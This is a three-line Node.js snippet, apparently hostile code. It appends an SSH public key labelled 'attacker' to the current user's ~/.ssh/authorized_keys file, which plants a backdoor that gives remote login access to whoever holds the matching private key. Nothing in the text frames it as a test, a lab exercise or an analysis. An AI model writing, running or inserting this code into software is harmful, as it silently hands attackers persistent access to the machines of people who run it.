import { appendFileSync } from 'node:fs';
import { homedir } from 'node:os';
appendFileSync(`${homedir()}/.ssh/authorized_keys`, '\nssh-ed25519 AAAA attacker');
